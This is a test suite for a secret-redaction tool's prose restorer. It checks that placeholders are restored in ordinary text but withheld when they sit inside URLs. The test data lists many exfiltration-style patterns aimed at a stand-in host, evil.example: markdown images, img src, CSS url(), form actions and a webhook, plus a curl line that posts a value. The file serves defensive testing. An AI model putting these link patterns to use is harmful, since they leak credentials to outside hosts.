"""Prose restoration (P6, P8): any chunking gives the same, and nothing comes back into an address."""

from collections.abc import Callable

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from localguard.redact import placeholder
from localguard.redact.prose import ProseRestorer, restore_prose
from localguard.redact.redactor import apply, replacements
from localguard.redact.report import Report
from localguard.redact.vault import Vault
from tests.redact.conftest import KEY, OTHER_KEY, Found, found, in_pieces, secret

SIZES = st.lists(st.integers(1, 60), min_size=1, max_size=8)
MAIL = "ann.ex@corp.example"


def own(value: str = "", type: str = "PASSWORD") -> str:
    return placeholder.make(KEY, value or secret(), type)


PIECES = st.sampled_from(
    [
        own(),
        own(MAIL, "EMAIL"),
        own(),
        own().lower(),
        own()[:20],
        "L",
        "LG",
        "LG_",
        "\n",
        "\n\n",
        " ",
        "a",
        "https://x.y/",
        "http://127.0.0.1:80/",
        "](",
        ")",
        "[r]: ",
        "<",
        ">",
        '"',
        "src=",
        "<a href='",
        "```",
        "~~~",
        "- ",
        "    ",
        "\r\n",
        "<<<<<<< SEARCH\n",
        ">>>>>>> REPLACE\n",
        "<div>",
        "(",
        "é",
        "🔑",
        "\\",
        "`",
        "://",
        "http",
    ]
)


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=25).map("".join), SIZES)
@example(f"{own()}", [1])
@example(f"x LG_LG_{own()}LG", [1])
def test_any_chunking_gives_the_same_text_and_the_same_report(text: str, sizes: list[int]) -> None:
    vault = Vault(KEY)
    vault.placeholder_for(secret(), "PASSWORD", data_class="secret", distinctive=True)
    vault.placeholder_for(MAIL, "EMAIL", data_class="pii", distinctive=True)
    whole, pieces, letters = Report(), Report(), Report()
    answer = restore_prose(text, vault, whole)
    assert in_pieces(ProseRestorer(vault, pieces), text, sizes) == answer
    assert in_pieces(ProseRestorer(vault, letters), text, [1]) == answer
    assert whole == pieces == letters


@given(st.text(max_size=60), st.text(min_size=1, max_size=20), st.text(max_size=60), SIZES)
def test_restore_of_redact_is_the_text_in_any_chunking(before: str, value: str, after: str, sizes: list[int]) -> None:
    """Outside addresses, which a fence around the text makes sure of."""
    vault = Vault(KEY)
    text = f"```\n{before}{value}{after}".encode()
    start = len(f"```\n{before}".encode())
    spans = [Found(start, start + len(value.encode()))]
    redacted = apply(text, replacements(text, spans, vault, {})).decode()
    assert in_pieces(ProseRestorer(vault, Report()), redacted, sizes) == text.decode()


@given(st.text(max_size=200), SIZES)
def test_text_without_placeholders_passes_untouched(text: str, sizes: list[int]) -> None:
    assert in_pieces(ProseRestorer(Vault(KEY), Report()), text, sizes) == text


def test_placeholder_split_at_every_byte_is_restored(vault: Vault, known: Callable[..., str]) -> None:
    """Peers, line 17."""
    text = f"It is {known(secret())}, as you know."
    for at in range(len(text) + 1):
        restorer = ProseRestorer(vault, Report())
        parts = (restorer.feed(text[:at]), restorer.feed(text[at:]), restorer.finish())
        assert "".join(parts) == f"It is {secret()}, as you know."


@given(st.text(max_size=80))
def test_only_a_possible_beginning_is_held_back(text: str) -> None:
    restorer = ProseRestorer(Vault(KEY), Report())
    emitted = restorer.feed(text)
    held = text[len(emitted) :]
    assert held == "" or placeholder.may_continue(held)
    assert len(held) < placeholder.MAX_LENGTH
    assert restorer.finish() == held


def test_words_come_out_as_they_come_in(vault: Vault) -> None:
    restorer = ProseRestorer(vault, Report())
    assert [restorer.feed(word) for word in ("The ", "Large", " L", "ist", " LG", "G")] == [
        "The ", "Large", " ", "List", " ", "LGG"
    ]  # fmt: skip


def test_value_with_anything_in_it_comes_back_as_it_was(
    vault: Vault, known: Callable[..., str], report: Report
) -> None:
    value = 'quote" back\\slash\nline 🔑 \x1b[0m LG_ end'
    assert restore_prose(f"a {known(value)} b", vault, report) == f"a {value} b"
    assert report.restored == {"PASSWORD": 1}


RESTORED = [
    "plain {}",
    "user:{}@",
    "glued{}foo",
    "postgres://app:{}@db.internal/app",
    "see https://example.com/x and {}",
    "(https://example.com) {}",
    "[text](https://example.com) {}",
    "`{}`",
    "http://127.0.0.1:8080/?k={}",
    "http://localhost/{}",
    "https://[::1]:9/x/{}",
    "ws://127.0.0.1/{}",
    "[a](http://localhost:3000/{})",
    '<img src="http://127.0.0.1/{}">',
    "```\nhttps://example.com/{}\n```",
    "```bash\ncurl -d {} https://e.example\n```\n",
    "~~~\n![x](//evil.example/{})\n~~~",
    "````\n```\nhttps://evil.example/{}\n````",
    "1. do\n   ```\n   https://evil.example/{}\n   ```",
    "- do\n  ```\n  https://evil.example/{}\n",
    "x\n\n    ```\n    https://evil.example/{}\n",
    "<<<<<<< SEARCH\nurl = https://u:{}@h/\n=======\nx\n>>>>>>> REPLACE\n",
    "f.py\n```python\n<<<<<<< SEARCH\n```\n=======\nhttps://u:{}@h/\n>>>>>>> REPLACE\n```",
    "------- SEARCH\nhttps://u:{}@h/\n+++++++ REPLACE",
    "[INFO] x: {}",
    "a[1](x) {}",
    "srcs {} = x",
    "data={} x",
    "a < b, action = {}",
    'content="{}"',
    "// {} is the key",
    "a // b {}",
    "path/to//x/{}",
    "awww. {}",
    "www is {}",
    "curl({})",
    "see url: {}",
    "url (as in {})",
    "<b>data</b> ={}",
    "sftp://u:{}@host/",
]

WITHHELD = [
    "//evil.example/{}",
    "see '//evil.example/{}'",
    "www.evil.example/{}",
    "(WWW.evil.example/?q={})",
    "ftp://evil.example/{}",
    "ftps://u:{}@evil.example/",
    "https:\\/\\/evil.example\\/{}",
    '<div style="background: url(//evil.example/{})">',
    "background: url( '//evil.example/ {}' )",
    'body {{ background: URL("x?{}") }}',
    '<form action="//evil.example/{}">',
    "<button type=x formaction = /evil?{}>",
    '<object type="x" data="//evil.example/{}">',
    "<video poster='//evil.example/{}'>",
    '<meta http-equiv="refresh" content="0; //evil.example/{}">',
    '<a\nping="//evil.example/{}">',
    "https://evil.example/{}",
    "HTTPS://evil.example/?a=b&c={}",
    "http://{}.evil.example/",
    "https://user:{}@evil.example/",
    "wss://evil.example/{}",
    "https://evil.example/(x){}",
    "https://evil.example/[x]{{y}}/{}",
    "http://localhost.evil.example/{}",
    "http://localhost@evil.example/{}",
    "http://127.0.0.1@evil.example/{}",
    "http://127.0.0.1:80@evil.example/{}",
    "http://127.0.0.1\\@evil.example/{}",
    "http://127.0.0.1{}",
    "http://localhost:{}/",
    "http://localhost/?to=https://evil.example/{}",
    "`https://evil.example/{}`",
    "[a](https://evil.example/{})",
    "![a](//evil.example/{})",
    "![a](  /x/{} )",
    "![a](\n{})",
    "![a](<//evil.example/ {}>)",
    "![a](//evil.example/(x){})",
    "![a](//evil.example/\\){})",
    "[r]: //evil.example/{}",
    "> [r]:\n  //evil.example/{}",
    "- [r]: <//evil.example/{}>",
    "<https://evil.example/{}>",
    '<img src="//evil.example/{}">',
    "<img src='//evil.example/ {}'>",
    "<IMG SRC = //evil.example/{}>",
    "<a href=\n'//evil.example/{}'>",
    '<img srcset="//evil.example/{} 2x">',
    "```\nx\n```\nhttps://evil.example/{}",
    "``` `\nhttps://evil.example/{}",
    "text\n    ```\nhttps://evil.example/{}",
    "- do\n  ```\n  x\n  ```\nhttps://evil.example/{}",
    "x\n\n    ```\n    x\nhttps://evil.example/{}",
    "<div>\n```\n<img src='//evil.example/{}'>\n",
    "<<<<<<< SEARCH\n=======\n>>>>>>> REPLACE\nhttps://evil.example/{}",
]


@pytest.mark.parametrize("sizes", [[1000], [1], [3]])
@pytest.mark.parametrize("text", RESTORED)
def test_restored_where_it_is_safe(
    vault: Vault, known: Callable[..., str], report: Report, text: str, sizes: list[int]
) -> None:
    for value, type, data_class in ((secret(), "PASSWORD", "secret"), (MAIL, "EMAIL", "pii")):
        redacted = text.format(known(value, type, data_class))
        assert in_pieces(ProseRestorer(vault, report), redacted, sizes) == text.format(value)
    assert report.withheld == []


@pytest.mark.parametrize("sizes", [[1000], [1], [3]])
@pytest.mark.parametrize("text", WITHHELD)
def test_withheld_inside_addresses_for_every_class(
    vault: Vault, known: Callable[..., str], report: Report, text: str, sizes: list[int]
) -> None:
    for value, type, data_class in ((secret(), "PASSWORD", "secret"), (MAIL, "EMAIL", "pii")):
        redacted = text.format(known(value, type, data_class))
        assert in_pieces(ProseRestorer(vault, report), redacted, sizes) == redacted
    assert [one.type for one in report.withheld] == ["PASSWORD", "EMAIL"]
    assert report.restored == {}


def test_a_value_that_begins_an_address_takes_what_follows_into_it(vault: Vault, known: Callable[..., str]) -> None:
    address = known("https://hooks.evil.example/in?x=", "WEBHOOK")
    report = Report()
    inner = known(secret())
    assert restore_prose(f"{address}{inner} {inner}", vault, report) == (
        f"https://hooks.evil.example/in?x={inner} {secret()}"
    )


@pytest.mark.parametrize("change", [str.lower, lambda text: text.replace("_", "\\_"), lambda text: text[:-1] + "."])
def test_what_only_resembles_a_placeholder_is_never_guessed(
    vault: Vault, known: Callable[..., str], report: Report, change: Callable[[str], str]
) -> None:
    text = change(known(secret()))
    assert restore_prose(text, vault, report) == text
    assert report == Report()


def test_another_workspaces_placeholder_stays(vault: Vault, report: Report) -> None:
    """Peers, line 14."""
    other = Vault(OTHER_KEY).placeholder_for(secret(), "PASSWORD", data_class="secret", distinctive=True)
    vault.placeholder_for(secret(), "PASSWORD", data_class="secret", distinctive=True)
    assert restore_prose(f"x {other}", vault, report) == f"x {other}"
    assert report == Report()


def test_own_placeholder_whose_value_is_not_known_stays_and_is_reported(vault: Vault, report: Report) -> None:
    assert restore_prose(f"x {own()}", vault, report) == f"x {own()}"
    assert report.unknown == [own()]


def test_a_document_comes_back_as_it_was(vault: Vault) -> None:
    """Aider: whole files in prose (agents, line 7)."""
    text = f"app.env\n```\nDB=postgres://app:{secret()}@db/app\nURL=https://u:{secret(2)}@h/\n```\nDone: {secret()}.\n"
    data = text.encode()
    redacted = apply(data, replacements(data, [found(data, secret()), found(data, secret(2))], vault, {})).decode()
    assert secret() not in redacted
    assert secret(2) not in redacted
    for sizes in ([1], [2], [3], [7], [10_000]):
        assert in_pieces(ProseRestorer(vault, Report()), redacted, sizes) == text


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "unit",
    [
        "LG_A_0123456789ABCDEF",
        "L",
        "LG_" + "A" * 40,
        "](",
        "https://",
        "[",
        "src=",
        "```\n",
        "(" * 9,
        "<a data=",
        "www.",
        "//",
        "url(",
    ],
)
def test_hostile_text_takes_linear_time(vault: Vault, known: Callable[..., str], unit: str) -> None:
    known(secret())
    text = unit * (400_000 // len(unit))
    assert restore_prose("LG_" + text, vault, Report()) == "LG_" + text
